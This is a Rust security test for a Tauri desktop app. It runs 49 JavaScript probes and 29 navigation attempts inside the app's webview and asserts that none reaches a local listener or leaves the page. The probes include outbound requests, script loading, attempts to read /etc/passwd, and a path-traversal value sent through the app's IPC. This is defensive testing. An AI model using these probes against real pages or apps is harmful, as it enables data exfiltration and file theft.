//! What the page cannot do even if something foreign ran in it.

use std::net::{TcpListener, TcpStream, UdpSocket};
use std::sync::{Arc, Mutex};
use std::time::Duration;

use serde_json::{Value, json};

use super::driver::with_window;

/// Each probe calls `done` with what it got, or is still silent when its time is over. `HOST` is a server that
/// notices whoever knocks.
const PROBES: &[(&str, &str)] = &[
    (
        "fetch",
        "fetch('http://HOST/').then(() => done('answered'), () => done('refused'))",
    ),
    (
        "fetch without CORS",
        "fetch('http://HOST/', { mode: 'no-cors' }).then(() => done('answered'), () => done('refused'))",
    ),
    (
        "request",
        "const r = new XMLHttpRequest(); r.open('GET', 'http://HOST/'); r.onload = () => done('answered'); r.onerror = () => done('refused'); r.send()",
    ),
    (
        "beacon",
        "navigator.sendBeacon('http://HOST/', 'x'); setTimeout(() => done('refused'), 300)",
    ),
    (
        "web socket",
        "const s = new WebSocket('ws://HOST/'); s.onopen = () => done('answered'); s.onerror = () => done('refused')",
    ),
    (
        "event source",
        "const s = new EventSource('http://HOST/'); s.onopen = () => done('answered'); s.onerror = () => done('refused')",
    ),
    (
        "image",
        "const i = new Image(); i.onload = () => done('answered'); i.onerror = () => done('refused'); i.src = 'http://HOST/i.png'",
    ),
    (
        "style sheet",
        "const l = document.createElement('link'); l.rel = 'stylesheet'; l.onload = () => done('answered'); l.onerror = () => done('refused'); l.href = 'http://HOST/s.css'; document.head.append(l)",
    ),
    (
        "prefetch",
        "const l = document.createElement('link'); l.rel = 'prefetch'; l.href = 'http://HOST/p'; document.head.append(l); setTimeout(() => done('refused'), 300)",
    ),
    (
        "font",
        "new FontFace('x', 'url(http://HOST/f.woff2)').load().then(() => done('answered'), () => done('refused'))",
    ),
    (
        "frame",
        "const f = document.createElement('iframe'); f.src = 'http://HOST/'; document.body.append(f); setTimeout(() => done('refused'), 300)",
    ),
    (
        "video",
        "const v = document.createElement('video'); v.onerror = () => done('refused'); v.onloadeddata = () => done('answered'); v.src = 'http://HOST/v.mp4'; v.load()",
    ),
    (
        "worker",
        "try { const w = new Worker('data:text/javascript,postMessage(1)'); w.onmessage = () => done('ran'); w.onerror = () => done('refused'); } catch { done('refused') }",
    ),
    (
        "form",
        "const f = document.createElement('form'); f.action = 'http://HOST/'; document.body.append(f); f.submit(); setTimeout(() => done('refused'), 300)",
    ),
    (
        "navigation",
        "location.href = 'http://HOST/'; setTimeout(() => done('refused'), 300)",
    ),
    (
        "new window",
        "done(window.open('http://HOST/') === null ? 'refused' : 'opened')",
    ),
    (
        "inline script",
        "window.foreign = undefined; try { const s = document.createElement('script'); s.textContent = 'window.foreign = 1'; document.body.append(s); } catch {} done(window.foreign === 1 ? 'ran' : 'refused')",
    ),
    (
        "foreign script",
        "try { const s = document.createElement('script'); s.onload = () => done('ran'); s.onerror = () => done('refused'); s.src = 'http://HOST/s.js'; document.body.append(s); } catch { done('refused') }",
    ),
    (
        "handler in markup",
        "window.foreign = undefined; try { const d = document.createElement('div'); d.innerHTML = '<img src=x onerror=\"window.foreign = 1\">'; document.body.append(d); } catch {} setTimeout(() => done(window.foreign === 1 ? 'ran' : 'refused'), 300)",
    ),
    (
        "dialog of a plugin",
        "window.__TAURI_INTERNALS__.invoke('plugin:dialog|open', { options: {} }).then(() => done('answered'), () => done('refused'))",
    ),
    (
        "another window",
        "window.__TAURI_INTERNALS__.invoke('plugin:webview|create_webview_window', { options: { label: 'x' } }).then(() => done('answered'), () => done('refused'))",
    ),
    (
        "sending an event",
        "window.__TAURI_INTERNALS__.invoke('plugin:event|emit', { event: 'touched', payload: 1 }).then(() => done('answered'), () => done('refused'))",
    ),
    (
        "worker from a blob",
        "try { const w = new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))); w.onmessage = () => done('ran'); w.onerror = () => done('refused'); } catch { done('refused') }",
    ),
    (
        "shared worker",
        "try { const w = new SharedWorker('http://HOST/w.js'); w.port.onmessage = () => done('ran'); w.onerror = () => done('refused'); } catch { done('refused') }",
    ),
    (
        "service worker",
        "navigator.serviceWorker ? navigator.serviceWorker.register('http://HOST/w.js').then(() => done('ran'), () => done('refused')) : done('refused')",
    ),
    (
        "eval",
        "try { done(eval('1 + 1') === 2 ? 'ran' : 'refused') } catch { done('refused') }",
    ),
    (
        "function from text",
        "try { done(new Function('return 1')() === 1 ? 'ran' : 'refused') } catch { done('refused') }",
    ),
    (
        "timer from text",
        "window.foreign = undefined; try { setTimeout('window.foreign = 1', 0) } catch {} setTimeout(() => done(window.foreign === 1 ? 'ran' : 'refused'), 300)",
    ),
    (
        "script by import",
        "import('http://HOST/m.js').then(() => done('ran'), () => done('refused'))",
    ),
    (
        "script from data",
        "import('data:text/javascript,export default 1').then(() => done('ran'), () => done('refused'))",
    ),
    (
        "script address",
        "window.foreign = undefined; const a = document.createElement('a'); a.href = 'javascript:window.foreign=1'; document.body.append(a); a.click(); setTimeout(() => done(window.foreign === 1 ? 'ran' : 'refused'), 300)",
    ),
    (
        "style in markup",
        "const d = document.createElement('div'); try { d.setAttribute('style', 'background-image: url(http://HOST/b.png)'); document.body.append(d) } catch {} setTimeout(() => done('refused'), 300)",
    ),
    (
        "style element",
        "const s = document.createElement('style'); s.textContent = '@import url(http://HOST/i.css)'; document.head.append(s); setTimeout(() => done('refused'), 300)",
    ),
    (
        "object",
        "const o = document.createElement('object'); o.data = 'http://HOST/o'; document.body.append(o); setTimeout(() => done('refused'), 300)",
    ),
    (
        "embed",
        "const e = document.createElement('embed'); e.src = 'http://HOST/e'; document.body.append(e); setTimeout(() => done('refused'), 300)",
    ),
    (
        "audio",
        "const a = new Audio('http://HOST/a.mp3'); a.onerror = () => done('refused'); a.oncanplay = () => done('answered'); a.load()",
    ),
    (
        "drawing",
        "const i = document.createElementNS('http://www.w3.org/2000/svg', 'image'); i.setAttribute('href', 'http://HOST/x.svg'); const s = document.createElementNS('http://www.w3.org/2000/svg', 'svg'); s.append(i); document.body.append(s); setTimeout(() => done('refused'), 300)",
    ),
    (
        "early name look-up",
        "const l = document.createElement('link'); l.rel = 'dns-prefetch'; l.href = 'http://HOST/'; document.head.append(l); setTimeout(() => done('refused'), 300)",
    ),
    (
        "early connection",
        "const l = document.createElement('link'); l.rel = 'preconnect'; l.href = 'http://HOST/'; document.head.append(l); setTimeout(() => done('refused'), 300)",
    ),
    (
        "early anonymous connection",
        "const l = document.createElement('link'); l.rel = 'preconnect'; l.crossOrigin = 'anonymous'; l.href = 'https://HOST/'; document.head.append(l); setTimeout(() => done('refused'), 300)",
    ),
    (
        "early module",
        "const l = document.createElement('link'); l.rel = 'modulepreload'; l.href = 'http://HOST/m.js'; document.head.append(l); setTimeout(() => done('refused'), 300)",
    ),
    (
        "manifest",
        "const l = document.createElement('link'); l.rel = 'manifest'; l.href = 'http://HOST/m.json'; document.head.append(l); setTimeout(() => done('refused'), 300)",
    ),
    (
        "ping of a link",
        "const a = document.createElement('a'); a.href = '#x'; a.ping = 'http://HOST/ping'; document.body.append(a); a.click(); setTimeout(() => done('refused'), 300)",
    ),
    (
        "frame with markup",
        "window.foreign = undefined; const f = document.createElement('iframe'); try { f.srcdoc = '<script>parent.foreign = 1<\\/script>' } catch {} document.body.append(f); setTimeout(() => done(window.foreign === 1 ? 'ran' : 'refused'), 300)",
    ),
    (
        "peer connection",
        "try { const p = new RTCPeerConnection({ iceServers: [{ urls: 'stun:HOST' }] }); p.createDataChannel('x'); p.createOffer().then((o) => p.setLocalDescription(o)).catch(() => {}); setTimeout(() => done('refused'), 300) } catch { done('refused') }",
    ),
    (
        "a file of the disk",
        "fetch('file:///etc/passwd').then(() => done('answered'), () => done('refused'))",
    ),
    (
        "the asset protocol",
        "fetch('asset://localhost/etc/passwd').then((r) => done(r.ok ? 'answered' : 'refused'), () => done('refused'))",
    ),
    (
        "a path",
        "window.__TAURI_INTERNALS__.invoke('call', { command: 'preview_article', args: { source: { path: '/etc/passwd' } } }).then(() => done('answered'), () => done('refused'))",
    ),
    (
        "a token that was never given",
        "window.__TAURI_INTERNALS__.invoke('call', { command: 'preview_article', args: { source: { staged: '../../etc/passwd' } } }).then(() => done('answered'), () => done('refused'))",
    ),
];

/// Ways to leave the page, or to make another one.
const WAYS_OUT: &[&str] = &[
    "location.href = 'http://HOST/'",
    "location.assign('http://HOST/')",
    "location.replace('http://HOST/')",
    "window.location = 'https://HOST/'",
    "document.location = 'http://HOST/'",
    "top.location = 'http://HOST/'",
    "location.href = 'file:///etc/passwd'",
    "location.href = 'data:text/html,<p>x'",
    "location.href = 'javascript:document.title=1'",
    "location.href = 'about:srcdoc'",
    "location.href = 'blob:http://HOST/x'",
    "location.href = 'asset://localhost/etc/passwd'",
    "location.href = 'ftp://HOST/'",
    "location.href = 'mailto:x@h.test'",
    "location.href = 'smb://HOST/s'",
    "location.href = 'about:blank'",
    "location.replace('about:blank')",
    "window.open('about:blank', '_self')",
    "const a = document.createElement('a'); a.href = 'about:blank'; document.body.append(a); a.click()",
    "window.open('http://HOST/')",
    "window.open('about:blank')",
    "window.open('file:///etc/passwd', '_self')",
    "const a = document.createElement('a'); a.href = 'http://HOST/'; document.body.append(a); a.click()",
    "const a = document.createElement('a'); a.href = 'http://HOST/'; a.target = '_blank'; document.body.append(a); a.click()",
    "const a = document.createElement('a'); a.href = 'http://HOST/f'; a.download = 'f'; document.body.append(a); a.click()",
    "const a = document.createElement('a'); a.href = 'http://HOST/'; document.body.append(a); a.dispatchEvent(new MouseEvent('auxclick', { button: 1, bubbles: true }))",
    "const f = document.createElement('form'); f.action = 'http://HOST/'; f.method = 'post'; document.body.append(f); f.submit()",
    "const f = document.createElement('form'); f.action = 'http://HOST/'; f.target = '_blank'; document.body.append(f); f.requestSubmit()",
    "const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=http://HOST/'; document.head.append(m)",
];

/// A place on this computer that notices every connection and every datagram.
struct Listener {
    host: String,
    knocks: Arc<Mutex<Vec<String>>>,
    /// What the page is doing now.
    at: Arc<Mutex<String>>,
}

impl Listener {
    fn new() -> Self {
        let server = TcpListener::bind("127.0.0.1:0").unwrap();
        let host = server.local_addr().unwrap().to_string();
        let datagrams = UdpSocket::bind(&host).unwrap();
        let (knocks, at) = (Arc::default(), Arc::default());
        let listener = Listener { host, knocks, at };
        let note = listener.note("connection");
        std::thread::spawn(move || server.incoming().flatten().for_each(|_| note()));
        let note = listener.note("datagram");
        std::thread::spawn(move || {
            while datagrams.recv(&mut [0; 512]).is_ok() {
                note()
            }
        });
        listener
    }

    fn note(&self, what: &'static str) -> impl Fn() + use<> {
        let (knocks, at) = (Arc::clone(&self.knocks), Arc::clone(&self.at));
        move || {
            let after = at.lock().unwrap().clone();
            knocks.lock().unwrap().push(format!("{what}, {after}"));
        }
    }

    fn now(&self, what: &str) {
        what.clone_into(&mut self.at.lock().unwrap());
    }

    /// What was noticed since it was last asked, once nothing more is under way.
    async fn noticed(&self) -> Vec<String> {
        tokio::time::sleep(Duration::from_secs(1)).await;
        std::mem::take(&mut *self.knocks.lock().unwrap())
    }

    /// Without this control, a listener that never notices anything would pass.
    async fn notices_the_test_itself(&self) {
        self.now("the test itself");
        drop(TcpStream::connect(&self.host).unwrap());
        let socket = UdpSocket::bind("127.0.0.1:0").unwrap();
        socket.send_to(b"x", &self.host).unwrap();
        let mut noticed = self.noticed().await;
        noticed.sort();
        assert_eq!(
            noticed,
            ["connection, the test itself", "datagram, the test itself"]
        );
    }
}

#[test]
fn a_foreign_script_in_the_page_reaches_neither_network_nor_shell() {
    let listener = Listener::new();
    with_window("reach", None, |window| async move {
        listener.notices_the_test_itself().await;
        for (name, probe) in PROBES {
            listener.now(name);
            let script = format!(
                "const done = arguments[0]; setTimeout(() => done('refused'), 1500); \
                 try {{ {} }} catch {{ done('refused') }}",
                probe.replace("HOST", &listener.host)
            );
            let answer = window.client.execute_async(&script, vec![]).await;
            let answer = answer.unwrap_or_else(|error| panic!("{name}: {error}"));
            assert_eq!(answer, "refused", "{name}");
        }
        for way in WAYS_OUT {
            listener.now(way);
            let script = format!(
                "const done = arguments[0]; setTimeout(() => done('stayed'), 250); \
                 try {{ {} }} catch {{ /* refused at once */ }}",
                way.replace("HOST", &listener.host)
            );
            let answer = window.client.execute_async(&script, vec![]).await;
            let answer = answer.unwrap_or_else(|error| panic!("{way}: {error}"));
            assert_eq!(answer, "stayed", "{way}");
            let address = window.client.current_url().await.unwrap();
            assert_eq!(address.scheme(), "tauri", "{way}");
        }
        let windows = window.client.windows().await.unwrap();
        assert_eq!(windows.len(), 1, "another window was opened");
        assert_eq!((PROBES.len(), WAYS_OUT.len()), (49, 29));
        assert_eq!(listener.noticed().await, [""; 0], "something reached the network");
        listener.notices_the_test_itself().await;
        println!(
            "probes: {} tried, 0 succeeded; ways out: {} tried, 0 left; the listener was reached 0 times",
            PROBES.len(),
            WAYS_OUT.len()
        );
        // The page is still the app's own, and still works.
        let state = window.call("window_state", json!({})).await.unwrap();
        assert_eq!(state["workspace"], Value::Null);
        window
    });
}
